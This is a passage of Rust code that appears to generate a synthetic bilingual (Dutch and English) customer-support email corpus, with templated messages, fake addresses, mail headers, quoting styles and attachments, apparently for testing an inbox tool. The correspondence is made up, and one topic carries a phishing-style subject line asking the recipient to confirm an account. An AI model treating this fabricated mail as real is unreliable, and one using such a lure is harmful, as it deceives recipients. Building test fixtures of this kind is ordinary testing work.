            "De bezorging van bestelling {order} is nu al drie keer verzet. Wat is er aan de hand?",
        ],
        (ShippingDelay, En, Proactive) => &[
            "We're sorry to let you know that your order {order} ({product}) will arrive about a week later than planned: our supplier delivered late. You don't need to do anything; we'll send the tracking code as soon as it ships.",
        ],
        (ShippingDelay, Nl, Proactive) => &[
            "Helaas komt uw bestelling {order} ({product}) ongeveer een week later dan gepland: onze leverancier heeft vertraging. U hoeft niets te doen; zodra het pakket verzonden is, sturen we de track & trace.",
        ],
        (Bug, En, Open) => &[
            "When I export the booking overview to CSV, the app shows 'Something went wrong' and nothing is downloaded. This started after last week's update.",
            "The floor plan in the booking app shows desks twice since yesterday, so colleagues book the same desk. Screenshot attached.",
        ],
        (Bug, Nl, Open) => &[
            "Als ik het boekingsoverzicht naar CSV exporteer, geeft de app 'Er ging iets mis' en wordt er niets gedownload. Dit begon na de update van vorige week.",
            "Sinds gisteren toont de plattegrond in de boekingsapp bureaus dubbel, waardoor collega's hetzelfde bureau boeken. Screenshot in de bijlage.",
        ],
        (Feature, En, Open) => &[
            "Would it be possible to add a dark mode to the booking app? Several colleagues asked for it.",
            "We'd love to be able to book a desk for a whole week at once instead of day by day. Is that on your roadmap?",
        ],
        (Feature, Nl, Open) => &[
            "Zou er een donkere modus in de boekingsapp kunnen komen? Meerdere collega's vragen erom.",
            "Het zou fijn zijn als we een bureau voor een hele week in één keer kunnen boeken in plaats van per dag. Staat dat op de planning?",
        ],
        (Complaint, En, Open) => &[
            "I'm really disappointed. This is the third time a delivery of ours arrives damaged, and nobody answered my last two emails.",
            "The courier left the {product} in the rain outside our office. The box was soaked and the desk top is warped.",
        ],
        (Complaint, Nl, Open) => &[
            "Ik ben echt teleurgesteld. Dit is de derde keer dat een levering beschadigd aankomt, en op mijn vorige twee mails is niet gereageerd.",
            "De bezorger heeft de {product} in de regen voor ons kantoor gezet. De doos was doorweekt en het blad is kromgetrokken.",
        ],
        (Question, En, Open) => &[
            "Do you have a showroom where we can try the {product} before ordering 12 of them?",
            "Can the {product} be delivered to Belgium, and what are the shipping costs?",
        ],
        (Question, Nl, Open) => &[
            "Hebben jullie een showroom waar we de {product} kunnen uitproberen voordat we er 12 bestellen?",
            "Kan de {product} ook in België geleverd worden, en wat zijn de verzendkosten?",
        ],
        (Partnership, _, Open) => &[
            "We are a distributor of office furniture in Germany and Austria and would like to discuss reselling your products. Would you be open to a call next week?",
            "I run a coworking space with 140 desks and would love to partner with you on your booking software. Who should I talk to?",
        ],
        (ColdSales, _, Open) => &[
            "I noticed {company} is growing fast. We help companies like yours book 30+ qualified sales meetings per month with zero effort. Worth a 15-minute chat this week?",
            "Are you still handling support emails manually? Our AI agent answers 80% of tickets automatically. Can I send you a short demo video?",
            "Quick question: who is responsible for purchasing at {company}? We offer 40% off premium office coffee machines this month.",
        ],
        (ColdSales, _, Nudge) => &[
            "Just bumping this to the top of your inbox in case it got buried. Any thoughts?",
            "Following up on my note below. Should I reach out to someone else instead?",
        ],
        (_, En, Nudge) => &[
            "Any news on this? I haven't heard back yet.",
            "Sorry to chase, but could someone please look at my email below?",
            "I also tried calling, but the line was busy. Please let me know.",
        ],
        (_, Nl, Nudge) => &[
            "Is hier al nieuws over? Ik heb nog niets gehoord.",
            "Sorry dat ik aandring, maar kan iemand naar mijn mail hieronder kijken?",
            "Ik heb ook gebeld, maar kwam er niet door. Laat u het even weten?",
        ],
        (Bug | Login, En, Reply) => &[
            "I tried again with the latest version, but it still happens. It works in Firefox, though, just not in Edge.",
            "Here are the steps: open Reports, choose 'Last month', click Export. The error appears after about five seconds.",
            "Clearing the cache helped for a day, now it's back.",
            "Our IT department says nothing changed on our side. Could it be the single sign-on?",
        ],
        (Bug | Login, Nl, Reply) => &[
            "Ik heb het opnieuw geprobeerd met de nieuwste versie, maar het gebeurt nog steeds. In Firefox werkt het wel, alleen niet in Edge.",
            "Dit zijn de stappen: open Rapportages, kies 'Vorige maand', klik op Exporteren. Na een seconde of vijf verschijnt de fout.",
            "Cache legen hielp een dag, nu is het weer terug.",
            "Onze ICT-afdeling zegt dat er bij ons niets veranderd is. Kan het aan de single sign-on liggen?",
        ],
        (_, En, Reply) => &[
            "Thanks for your quick answer. The order number is {order}, and the delivery address is our office in Utrecht.",
            "I checked again: the tracking code is {tracking}, but {carrier} says they never received the parcel.",
            "That is not quite what I asked. I'd rather have a replacement than a voucher.",
            "OK, I'll wait until Friday then. Please keep me posted.",
            "I've attached the photos you asked for.",
        ],
        (_, Nl, Reply) => &[
            "Bedankt voor uw snelle antwoord. Het bestelnummer is {order} en het afleveradres is ons kantoor in Utrecht.",
            "Ik heb nog eens gekeken: de track & trace is {tracking}, maar {carrier} zegt dat ze het pakket nooit hebben ontvangen.",
            "Dat is niet helemaal wat ik vroeg. Ik heb liever een nieuwe dan een tegoedbon.",
            "Goed, dan wacht ik tot vrijdag. Houdt u me op de hoogte?",
            "De foto's waar u om vroeg zitten in de bijlage.",
        ],
        (_, En, Thanks) => &[
            "That worked, thank you so much!",
            "Received it today, everything looks fine. Thanks for your help.",
            "Great, thanks for sorting this out so quickly.",
        ],
        (_, Nl, Thanks) => &[
            "Dat werkt, heel erg bedankt!",
            "Vandaag ontvangen, alles ziet er goed uit. Bedankt voor de hulp.",
            "Top, bedankt dat jullie dit zo snel hebben opgelost.",
        ],
        (Order | ShippingDelay, En, TeamFirst) => &[
            "Thank you for your message. I checked order {order}: the parcel is with {carrier} (tracking {tracking}) and was delayed at their depot. It should be delivered within two working days.",
            "I'm sorry about the delay. Your order {order} was split into two parcels; the second one left our warehouse this morning with {carrier}, tracking code {tracking}.",
        ],
        (Order | ShippingDelay, Nl, TeamFirst) => &[
            "Bedankt voor uw bericht. Ik heb bestelling {order} bekeken: het pakket ligt bij {carrier} (track & trace {tracking}) en is in hun depot vertraagd. Het zou binnen twee werkdagen bezorgd moeten worden.",
            "Excuses voor de vertraging. Uw bestelling {order} is in twee pakketten verstuurd; het tweede pakket is vanochtend met {carrier} vertrokken, track & trace {tracking}.",
        ],
        (Invoice, En, TeamFirst) => &[
            "Thank you for letting us know. I've corrected invoice {invoice} and attached the new version. The old one has been cancelled.",
            "You're right, the amount was charged twice. I've started the refund of {amount}; it will be on your account within 3–5 working days.",
        ],
        (Invoice, Nl, TeamFirst) => &[
            "Bedankt voor de melding. Ik heb factuur {invoice} aangepast en de nieuwe versie meegestuurd. De oude factuur is vervallen.",
            "U heeft gelijk, het bedrag is twee keer afgeschreven. Ik heb de terugbetaling van {amount} in gang gezet; die staat binnen 3 à 5 werkdagen op uw rekening.",
        ],
        (Refund | Return, En, TeamFirst) => &[
            "I'm sorry to hear that. I've attached a return label; you can drop the parcel at any {carrier} point. As soon as we receive it, we'll refund {amount}.",
            "Our warehouse received your return on Tuesday. The refund of {amount} was processed today and should reach your account within a few days.",
        ],
        (Refund | Return, Nl, TeamFirst) => &[
            "Vervelend om te horen. In de bijlage vindt u een retourlabel; u kunt het pakket bij elk {carrier}-punt afgeven. Zodra we het binnen hebben, storten we {amount} terug.",
            "Ons magazijn heeft uw retour dinsdag ontvangen. De terugbetaling van {amount} is vandaag verwerkt en staat binnen een paar dagen op uw rekening.",
        ],
        (Bug | Login, En, TeamFirst) => &[
            "Thanks for reporting this. Could you tell us which browser you use and roughly what time it happened? Then our developers can find it in the logs.",
            "I've reset your account; you should receive a new reset email within a few minutes. Please check your spam folder as well.",
        ],
        (Bug | Login, Nl, TeamFirst) => &[
            "Bedankt voor de melding. Kunt u laten weten welke browser u gebruikt en hoe laat het ongeveer gebeurde? Dan kunnen onze ontwikkelaars het in de logs terugvinden.",
            "Ik heb uw account gereset; binnen een paar minuten ontvangt u een nieuwe resetmail. Kijkt u ook even in de spammap?",
        ],
        (Feature, En, TeamFirst) => &[
            "Thank you for the suggestion! I've passed it on to our product team. I can't promise a date, but it's a popular request.",
        ],
        (Feature, Nl, TeamFirst) => &[
            "Bedankt voor de suggestie! Ik heb hem doorgegeven aan ons productteam. Ik kan geen datum beloven, maar het is een veelgevraagde wens.",
        ],
        (Partnership | ColdSales, _, TeamFirst) => &[
            "Thank you for reaching out. I've forwarded your message to our managing director, who will contact you if there's a fit.",
            "Thanks, but we're not interested at the moment.",
        ],
        (_, En, TeamFirst) => &[
            "Thank you for your email, and I'm sorry for the trouble. I've looked into it and arranged a replacement {product}; it will be shipped with {carrier} tomorrow.",
            "Thanks for your question. Yes, that's possible: we deliver to the Netherlands and Belgium, free of charge from {amount}.",
        ],
        (_, Nl, TeamFirst) => &[
            "Bedankt voor uw mail, en excuses voor het ongemak. Ik heb het uitgezocht en een nieuwe {product} geregeld; die gaat morgen met {carrier} mee.",
            "Bedankt voor uw vraag. Ja, dat kan: we leveren in Nederland en België, gratis vanaf {amount}.",
        ],
        (_, En, TeamMiddle) => &[
            "Thanks for the details. Our developers found the cause and are working on a fix. I'll let you know as soon as it's live.",
            "I've asked {carrier} to investigate; they need up to three working days. I'll keep an eye on it.",
            "Could you send a photo of the label on the box? Then I can file a claim with {carrier}.",
            "We've released an update this morning. Could you try again and let me know whether it works now?",
            "I understand your frustration. As a gesture we'll refund the shipping costs.",
        ],
        (_, Nl, TeamMiddle) => &[
            "Bedankt voor de details. Onze ontwikkelaars hebben de oorzaak gevonden en werken aan een oplossing. Ik laat het u weten zodra die live staat.",
            "Ik heb {carrier} gevraagd het uit te zoeken; daar hebben ze tot drie werkdagen voor nodig. Ik houd het in de gaten.",
            "Kunt u een foto sturen van het label op de doos? Dan kan ik een claim indienen bij {carrier}.",
            "Vanochtend hebben we een update uitgebracht. Wilt u het nog eens proberen en laten weten of het nu werkt?",
            "Ik begrijp uw frustratie. Als gebaar van goede wil betalen we de verzendkosten terug.",
        ],
        (_, En, TeamLast) => {
            &["Glad to hear it's sorted! Don't hesitate to contact us if anything else comes up."]
        }
        (_, Nl, TeamLast) => {
            &["Fijn om te horen dat het is opgelost! Laat het gerust weten als er nog iets is."]
        }
        _ => &["Thanks."],
    }
}

struct Rendered {
    /// The plain text as sent (own words, signature, quoted history).
    text: String,
    /// An HTML alternative, when the writer's program sends one.
    html: Option<String>,
}

impl Plan {
    fn conv(&self, c: usize) -> &Conv {
        &self.convs[c]
    }

    fn rng_for(&self, c: usize, k: usize) -> Rng {
        Rng::with_seed(mix(
            self.options.seed ^ mix(u64::from(self.convs[c].index) << 16 | k as u64)
        ))
    }

    fn person(&self, c: usize) -> &'static Person {
        &PEOPLE[self.conv(c).person as usize % PEOPLE.len()]
    }

    fn full_name(&self, c: usize) -> String {
        let p = self.person(c);
        format!("{} {}", p.first, p.last)
    }

    fn customer_company(&self, c: usize) -> Option<&'static str> {
        self.conv(c)
            .company
            .map(|i| COMPANIES[i as usize % COMPANIES.len()])
    }

    fn customer_address(&self, c: usize) -> String {
        let conv = self.conv(c);
        let p = self.person(c);
        let local = format!("{}.{}", ascii_slug(p.first, ""), ascii_slug(p.last, ""));
        let domain = match self.customer_company(c) {
            Some(company) => {
                let tld = match p.origin {
                    Origin::Be => "example.be",
                    _ => "example.nl",
                };
                format!("{}.{tld}", ascii_slug(company, "-"))
            }
            None => {
                let providers: &[&str] = match p.origin {
                    Origin::Nl => &[
                        "kpnmail.example.nl",
                        "ziggo.example.nl",
                        "gmail.example.com",
                        "hotmail.example.com",
                    ],
                    Origin::Be => &[
                        "telenet.example.be",
                        "skynet.example.be",
                        "gmail.example.com",
                    ],
                    Origin::Uk => &["btinternet.example.co.uk", "gmail.example.com"],
                    Origin::De => &["web.example.de", "gmx.example.de"],
                    Origin::Tr => &["gmail.example.com", "hotmail.example.com.tr"],
                    Origin::Ma => &["gmail.example.com", "menara.example.ma"],
                    Origin::Fr => &["orange.example.fr", "gmail.example.com"],
                    Origin::Pl => &["wp.example.pl", "gmail.example.com"],
                };
                providers[conv.index as usize % providers.len()].to_owned()
            }
        };
        match conv.topic {
            Topic::ColdSales => format!("{}@leadboost.example.io", ascii_slug(p.first, "")),
            Topic::Partnership if conv.company.is_none() => format!("{local}@partners.example.de"),
            _ => format!("{local}@{domain}"),
        }
    }

    fn customer_zone(&self, c: usize) -> Zone {
        match (self.person(c).origin, self.conv(c).client) {
            (_, Client::Outlook) if self.conv(c).index.is_multiple_of(3) => Zone::Utc,
            (Origin::Uk, _) => Zone::Uk,
            (Origin::Tr, _) => Zone::Turkey,
            (Origin::Ma, _) => Zone::Morocco,
            _ => Zone::Europe,
        }
    }

    fn member(&self, index: u8) -> (&str, &str) {
        match self.options.members.get(index as usize) {
            Some(m) => (
                m.name.split_whitespace().next().unwrap_or(&m.name),
                m.name.as_str(),
            ),
            None => ("Support", "Support"),
        }
    }

    fn vars(&self, c: usize, member: u8) -> Vars<'_> {
        let conv = self.conv(c);
        let p = self.person(c);
        let euros = conv.amount_cents / 100;
        let cents = conv.amount_cents % 100;
        let amount = match conv.lang {
            Lang::Nl => format!("€ {euros},{cents:02}"),
            Lang::En => format!("€{euros}.{cents:02}"),
        };
        let product = PRODUCTS[conv.product as usize % PRODUCTS.len()];
        Vars {
            first: p.first,
            name: "",
            member: self.member(member).0,
            company: &self.options.company,
            customer_company: self.customer_company(c).unwrap_or(""),
            order: conv.order.to_string(),
            invoice: format!("2026-{:04}", conv.invoice),
            amount,
            product: if conv.lang == Lang::Nl {
                product.1
            } else {
                product.0
            },
            carrier: CARRIERS[conv.carrier as usize % CARRIERS.len()],
            tracking: format!("3SBRD{:09}", conv.order as u64 * 7919 % 1_000_000_000),
        }
    }

    fn subject(&self, c: usize) -> String {
        let conv = self.conv(c);
        let vars = self.vars(c, conv.member);
        let t = match (conv.topic, conv.lang) {
            (Topic::Order, Lang::En) => "Where is my order {order}?",
            (Topic::Order, Lang::Nl) => "Bestelling {order} nog niet ontvangen",
            (Topic::Invoice, Lang::En) => "Invoice {invoice} is incorrect",
            (Topic::Invoice, Lang::Nl) => "Factuur {invoice} klopt niet",
            (Topic::Refund, Lang::En) => "Refund for order {order}",
            (Topic::Refund, Lang::Nl) => "Terugbetaling bestelling {order}",
            (Topic::Return, Lang::En) => "Return request {order}",
            (Topic::Return, Lang::Nl) => "Retour aanvragen – {product}",
            (Topic::Login, Lang::En) => "Can't log in to the portal",
            (Topic::Login, Lang::Nl) => "Kan niet inloggen",
            (Topic::ShippingDelay, Lang::En) => "Delivery delayed – order {order}",
            (Topic::ShippingDelay, Lang::Nl) => "Levering vertraagd – bestelling {order}",
            (Topic::Bug, Lang::En) => "Bug: CSV export fails",
            (Topic::Bug, Lang::Nl) => "Fout bij exporteren naar CSV",
            (Topic::Feature, Lang::En) => "Feature request: dark mode",
            (Topic::Feature, Lang::Nl) => "Idee voor de boekingsapp",
            (Topic::Complaint, Lang::En) => "Complaint about delivery",
            (Topic::Complaint, Lang::Nl) => "Klacht over bezorging",
            (Topic::Question, Lang::En) => "Question about the {product}",
            (Topic::Question, Lang::Nl) => "Vraag over de {product}",
            (Topic::Partnership, _) => "Partnership proposal",
            (Topic::ColdSales, _) => "Quick question for {company}",
            (Topic::Newsletter, _) => "Spring offers: 30% off desk lamps",
            (Topic::Phishing, _) => "Uw mailbox is bijna vol – bevestig uw account",
        };
        let mut subject = fill(t, &vars);
        if conv.special == Some(Special::Rfc822Forward)
            || conv.special == Some(Special::InlineForward)
        {
            subject = format!("Fwd: {subject}");
        }
        subject
    }

    /// "Re: …" as the writer's program puts it.
    fn reply_subject(&self, c: usize, from_team: bool) -> String {
        let base = self.subject(c);
        let conv = self.conv(c);
        let prefix = if from_team {
            "Re: "
        } else {
            match (conv.client, conv.lang) {
                (Client::Outlook, Lang::Nl) => "Antw: ",
                (Client::Outlook, Lang::En) => "RE: ",
                _ => "Re: ",
            }
        };
        format!("{prefix}{base}")
    }

    fn message_id(&self, c: usize, k: usize) -> String {
        let conv = self.conv(c);
        let id = mix(self.options.seed ^ (u64::from(conv.index) << 16 | k as u64));
        match conv.msgs.get(k).map(|m| m.kind) {
            Some(MsgKind::Team) => format!("<baton.{id:016x}@{}>", self.domain),
            Some(MsgKind::Bounce { .. }) => format!("<{id:016X}.bounce@mail.{}>", self.domain),
            _ => {
                let address = self.customer_address(c);
                let host = address.rsplit_once('@').map_or("example.com", |(_, d)| d);
                match conv.client {
                    Client::Outlook => {
                        format!("<AM0PR07MB{:08X}{:08X}@{host}>", id >> 32, id as u32)
                    }
                    Client::Gmail => format!("<CAJ{id:016x}w@mail.gmail.example.com>"),
                    Client::Apple => format!(
                        "<{:08X}-{:04X}-{:04X}@{host}>",
                        id >> 32,
                        (id >> 16) as u16,
                        id as u16
                    ),
                    Client::Thunderbird => format!("<{id:016x}@{host}>"),
                }
            }
        }
    }

    fn has_message_id(&self, c: usize, k: usize) -> bool {
        !(k == 0 && self.conv(c).special == Some(Special::NoMessageId))
    }

    /// Whether customer message `k` goes out without In-Reply-To/References.
    fn drops_references(&self, c: usize, k: usize) -> bool {
        let conv = self.conv(c);
        conv.special == Some(Special::OutlookNoReferences)
            && conv.client == Client::Outlook
            && conv
                .msgs
                .get(k)
                .is_some_and(|m| m.kind == MsgKind::Customer)
            && k > 0
    }

    fn role(&self, c: usize, k: usize) -> Role {
        let conv = self.conv(c);
        let m = conv.msgs[k];
        let prev = k.checked_sub(1).map(|p| conv.msgs[p].kind);
        let last = k + 1 == conv.msgs.len();
        match m.kind {
            MsgKind::Team => match prev {
                None => Role::Proactive,
                Some(_) if !conv.msgs[..k].iter().any(|x| x.kind == MsgKind::Team) => {
                    Role::TeamFirst
                }
                Some(_) if last && k >= 3 && self.role_is_thanks(c, k - 1) => Role::TeamLast,
                _ => Role::TeamMiddle,
            },
            _ => match prev {
                None => Role::Open,
                Some(MsgKind::Customer) => Role::Nudge,
                _ if last && k >= 3 && k % 2 == 1 => Role::Thanks,
                _ => Role::Reply,
            },
        }
    }

    fn role_is_thanks(&self, c: usize, k: usize) -> bool {
        self.conv(c).msgs[k].kind == MsgKind::Customer && self.role(c, k) == Role::Thanks
    }

    /// The text (and HTML) of message `k`; `quote_levels` bounds how much history is
    /// quoted, as the size of long threads would otherwise grow with their square.
    fn body(&self, c: usize, k: usize, quote_levels: u8) -> Rendered {
        let conv = self.conv(c);
        let m = conv.msgs[k];
        let mut rng = self.rng_for(c, k);
        let role = self.role(c, k);
        let vars = self.vars(c, m.member);
        let team = m.kind == MsgKind::Team;
        let nl = conv.lang == Lang::Nl;
        let p = self.person(c);

        let choices = templates(conv.topic, conv.lang, role);
        let mut paragraphs: Vec<String> = vec![fill(choices[rng.usize(..choices.len())], &vars)];
        if role == Role::TeamMiddle && rng.bool() {
            let pool = templates(conv.topic, conv.lang, role);
            let second = fill(pool[rng.usize(..pool.len())], &vars);
            if second != paragraphs[0] {
                paragraphs.push(second);
            }
        }

        let greeting = if team {
            let first = p.first;
            match (nl, rng.u8(..3)) {
                (true, 0) => format!("Beste {first},"),
                (true, 1) => format!("Hoi {first},"),
                (true, _) => format!("Beste {},", self.full_name(c)),
                (false, 0) => format!("Dear {first},"),
                (false, 1) => format!("Hi {first},"),
                (false, _) => format!("Hello {first},"),
            }
        } else if matches!(conv.topic, Topic::ColdSales) {
            format!("Hi {} team,", self.options.company)
        } else {
            let member_first = self.member(conv.member).0;
            match (nl, rng.u8(..4), k) {
                (true, 0, _) => "Goedemorgen,".to_owned(),
                (true, 1, _) => "Beste klantenservice,".to_owned(),
                (true, 2, 0) => "Hallo,".to_owned(),
                (true, _, _) if k > 0 => format!("Hoi {member_first},"),
                (true, _, _) => "Beste,".to_owned(),
                (false, 0, _) => "Hello,".to_owned(),
                (false, 1, _) => format!("Dear {} team,", self.options.company),
                (false, _, _) if k > 0 => format!("Hi {member_first},"),
                (false, _, _) => "Hi,".to_owned(),
            }
        };
        let closing = if team {
            if nl {
                "Met vriendelijke groet,"
            } else {
                "Kind regards,"
            }
            .to_owned()
        } else {
            pick(
                &mut rng,
                if nl {
                    &[
                        "Met vriendelijke groet,",
                        "Groet,",
                        "Groetjes,",
                        "Alvast bedankt,",
                    ]
                } else {
                    &["Kind regards,", "Thanks,", "Best,", "Cheers,"]
                },
            )
            .to_owned()
        };
        let sign_name = if team {
            self.member(m.member).0.to_owned()
        } else if closing.starts_with("Met") || closing.starts_with("Kind") {
            self.full_name(c)
        } else {
            p.first.to_owned()
        };

        let mut own = String::with_capacity(600);
        own.push_str(&greeting);
        own.push_str("\n\n");
        for para in &paragraphs {
            own.push_str(para);
            own.push_str("\n\n");
        }
        own.push_str(&closing);
        own.push('\n');
        own.push_str(&sign_name);

        let signature = if team {
            let (_, full) = self.member(m.member);
            Some(format!(
                "{full}\n{} Support\n+31 20 123 45 67 · www.{}",
                self.options.company, self.domain
            ))
        } else if conv.topic == Topic::ColdSales {
            Some(format!(
                "{}\nGrowth Partner | LeadBoost\nBook a call: https://leadboost.example.io/meet/{}",
                self.full_name(c),
                ascii_slug(p.first, "")
            ))
        } else if conv.client == Client::Apple {
            None
        } else {
            self.customer_company(c).map(|company| {
                format!(
                    "{}\n{company}\nT +31 6 {:08}",
                    self.full_name(c),
                    u64::from(conv.order) * 31 % 100_000_000
                )
            })
        };

        let mut text = own.clone();
        if let Some(sig) = &signature {
            text.push_str("\n\n-- \n");
            text.push_str(sig);
        }
        if conv.client == Client::Apple && !team {
            text.push_str(if nl {
                "\n\nVerstuurd vanaf mijn iPhone"
            } else {
                "\n\nSent from my iPhone"
            });
        }

        // Quoted history.
        let quoted = if k > 0 && quote_levels > 0 && conv.topic != Topic::ColdSales {
            Some((k - 1, self.body(c, k - 1, quote_levels - 1).text))
        } else if k > 0 && conv.topic == Topic::ColdSales {
            Some((k - 1, self.body(c, k - 1, 0).text))
        } else {
            None
        };
        let mut html_quote = String::new();
        if let Some((q, quoted_text)) = &quoted {
            let q_plan = conv.msgs[*q];
            let (q_name, q_addr) = if q_plan.kind == MsgKind::Team {
                (
                    format!(
                        "{} from {} Support",
                        self.member(q_plan.member).0,
                        self.options.company
                    ),
                    self.options.shared_address.clone(),
                )
            } else {
                (self.full_name(c), self.customer_address(c))
            };
            let q_zone = if team {
                Zone::Europe
            } else {
                self.customer_zone(c)
            };
            let style = if team { Client::Gmail } else { conv.client };
            match style {
                Client::Outlook => {
                    text.push_str("\n\n________________________________\n");
                    let header = outlook_header(
                        nl,
                        &q_name,
                        &q_addr,
                        q_plan.at,
                        q_zone,
                        &self.quoted_to(c, *q),
                        &self.quoted_subject(c, *q),
                    );
                    text.push_str(&header);
                    text.push_str("\n\n");
                    text.push_str(quoted_text);
                    html_quote = format!(
                        "<div style=\"border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm\"><p class=\"MsoNormal\">{}<o:p></o:p></p></div>{}",
                        header
                            .lines()
                            .map(|l| match l.split_once(": ") {
                                Some((k, v)) =>
                                    format!("<b>{}:</b> {}", escape_html(k), escape_html(v)),
                                None => escape_html(l),
                            })
                            .collect::<Vec<_>>()
                            .join("<br>"),
                        paragraphs_html(quoted_text, "<p class=\"MsoNormal\">", "<o:p></o:p></p>")
                    );
                }
                Client::Apple => {
                    text.push_str("\n\n");
                    let attribution = apple_attribution(nl, &q_name, &q_addr, q_plan.at, q_zone);
                    text.push_str(&quote_lines(&format!("{attribution}\n\n{quoted_text}")));
                }
                _ => {
                    let attribution = if style == Client::Thunderbird {
                        thunderbird_attribution(nl, &q_name, q_plan.at, q_zone)
                    } else {
                        gmail_attribution(nl, &q_name, &q_addr, q_plan.at, q_zone)
                    };
                    text.push_str("\n\n");
                    text.push_str(&attribution);
                    text.push('\n');
                    text.push_str(&quote_lines(quoted_text));
                    html_quote = format!(
                        "<div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">{}<br></div><blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex\">{}</blockquote></div>",
                        escape_html(&attribution),
                        paragraphs_html(quoted_text, "<div>", "</div>")
                    );
                }
            }
        }

        let html = match (conv.special, m.kind, k) {
            (Some(Special::OutlookHtml), MsgKind::Customer, _) => {
                Some(outlook_html(&own, signature.as_deref(), &html_quote, nl))
            }
            (Some(Special::GmailHtml), MsgKind::Customer, _) => {
                Some(gmail_html(&own, signature.as_deref(), &html_quote))
            }
            (_, MsgKind::Customer, _) if conv.client == Client::Outlook && rng.u8(..3) == 0 => {
                Some(outlook_html(&own, signature.as_deref(), &html_quote, nl))
            }
            _ => None,
        };
        Rendered { text, html }
    }

    fn quoted_to(&self, c: usize, q: usize) -> String {
        if self.conv(c).msgs[q].kind == MsgKind::Team {
            format!("{} <{}>", self.full_name(c), self.customer_address(c))
        } else {
            format!(
                "{} Support <{}>",
                self.options.company, self.options.shared_address
            )
        }
    }

    fn quoted_subject(&self, c: usize, q: usize) -> String {
        if q == 0 {
            self.subject(c)
        } else {
            self.reply_subject(c, self.conv(c).msgs[q].kind == MsgKind::Team)
        }
    }

    fn render(&self, c: usize, k: usize) -> CorpusMessage {
        let conv = self.conv(c);
        let m = conv.msgs[k];
        match m.kind {
            MsgKind::Bounce { of } => self.render_bounce(c, k, of as usize),
            MsgKind::Team => self.render_team(c, k),
            MsgKind::Customer => match conv.topic {
                Topic::Newsletter => self.render_newsletter(c, k),
                Topic::Phishing => self.render_phishing(c, k),
                _ => self.render_customer(c, k),
            },
        }
    }

    fn threading_headers(&self, c: usize, k: usize, out: &mut String) {
        if k == 0 || self.drops_references(c, k) {
            return;
        }
        let ids: Vec<String> = (0..k)
            .filter(|&i| self.has_message_id(c, i))
            .map(|i| self.message_id(c, i))
            .collect();
        let Some(last) = ids.last() else { return };
        out.push_str("In-Reply-To: ");
        out.push_str(last);
        out.push_str("\r\n");
        // Like real clients, keep the first and the last few.
        let kept: Vec<&String> = if ids.len() > 10 {
            ids.iter()
                .take(1)
                .chain(ids[ids.len() - 9..].iter())
                .collect()
        } else {
            ids.iter().collect()
        };
        out.push_str("References: ");
        for (i, id) in kept.iter().enumerate() {
            if i > 0 {
                out.push_str("\r\n ");
            }
            out.push_str(id);
        }
        out.push_str("\r\n");
    }

    fn render_team(&self, c: usize, k: usize) -> CorpusMessage {
        let conv = self.conv(c);
        let m = conv.msgs[k];
        let body = self.body(c, k, 3);
        let (first, _) = self.member(m.member);
        let mut h = String::with_capacity(body.text.len() + 1200);
        header(
            &mut h,
            "From",
            &format!(
                "\"{first} from {} Support\" <{}>",
                self.options.company, self.options.shared_address
            ),
        );
        header(
            &mut h,
            "To",
            &mailbox(&self.full_name(c), &self.customer_address(c)),
        );
        let subject = if k == 0 {
            self.subject(c)
        } else {
            self.reply_subject(c, true)
        };
        header(&mut h, "Subject", &encode_subject(&subject));
        header(&mut h, "Date", &rfc5322_date(m.at, Zone::Europe));
        header(&mut h, "Message-ID", &self.message_id(c, k));
        self.threading_headers(c, k, &mut h);
        h.push_str("User-Agent: Baton/0.1\r\nMIME-Version: 1.0\r\n");
        let mut raw = h.into_bytes();
        // The corrected invoice or a return label goes with the first reply.
        let attach = self.role(c, k) == Role::TeamFirst
            && matches!(conv.topic, Topic::Invoice | Topic::Return)
            && conv.index.is_multiple_of(3);
        if attach {
            let name = if conv.topic == Topic::Invoice {
                format!(
                    "Factuur 2026-{:04} – {}.pdf",
                    conv.invoice,
                    self.customer_company(c).unwrap_or("Brightdesk")
                )
            } else {
                format!(
                    "Retourlabel {} {}.pdf",
                    CARRIERS[conv.carrier as usize % CARRIERS.len()],
                    conv.order
                )
            };
            let pdf = pdf_document(&format!(
                "{} {}",
                if conv.topic == Topic::Invoice {
                    "Invoice"
                } else {
                    "Return label"
                },
                conv.order
            ));
            mixed(
                &mut raw,
                c,
                k,
                |raw| plain_part(raw, &body.text),
                &[Attachment {
                    name: &name,
                    mime: "application/pdf",
                    bytes: &pdf,
                }],
            );
        } else {
            plain_body(&mut raw, &body.text, TextEncoding::EightBit);
        }
        CorpusMessage {
            folder: CorpusFolder::Sent,
            received_at: m.at,
            seen: true,
            answered: false,
            raw,
        }
    }

    fn customer_headers(&self, c: usize, k: usize, h: &mut String) {
        let conv = self.conv(c);
        let m = conv.msgs[k];
        let zone = self.customer_zone(c);
        let sent_at = m.at - 4 - (u64::from(conv.index) % 50) as i64;
        h.push_str(&format!(
            "Return-Path: <{}>\r\nReceived: from mail.{} (mail.{} [192.0.2.{}])\r\n\tby mx.{} (Postfix) with ESMTPS id {:010X}\r\n\tfor <{}>; {}\r\n",
            self.customer_address(c),
            self.customer_host(c),
            self.customer_host(c),
            conv.index % 250 + 1,
            self.domain,
            mix(u64::from(conv.index) << 8 | k as u64) & 0xFF_FFFF_FFFF,
            self.options.shared_address,
            rfc5322_date(m.at, Zone::Europe)
        ));
        let name = self.full_name(c);
        let from = match conv.special {
            Some(Special::Latin1) if k == 0 => format!(
                "{} <{}>",
                encode_word_latin1(&name),
                self.customer_address(c)
            ),
            _ => mailbox(&name, &self.customer_address(c)),
        };
        header(h, "From", &from);
        header(
            h,
            "To",
            &mailbox(
                &format!("{} Support", self.options.company),
                &self.options.shared_address,
            ),
        );
        let subject = if k == 0 {
            self.subject(c)
        } else {
            self.reply_subject(c, false)
        };
        let subject = match conv.special {
            Some(Special::Latin1) if k == 0 => encode_word_latin1(&subject),
            _ => encode_subject(&subject),
        };
        header(h, "Subject", &subject);
        header(h, "Date", &rfc5322_date(sent_at, zone));
        if self.has_message_id(c, k) {
            header(h, "Message-ID", &self.message_id(c, k));
        }
        self.threading_headers(c, k, h);
        match conv.client {
            Client::Outlook => {
                let id = mix(u64::from(conv.index) ^ 0x0071_7ead);
                let mut index_bytes = id.to_be_bytes().to_vec();
                index_bytes.extend_from_slice(&mix(id).to_be_bytes()[..6]);
                for _ in 0..k {
                    index_bytes.extend_from_slice(&[0x80, 0x00, 0x00, 0x12, 0x34]);
                }
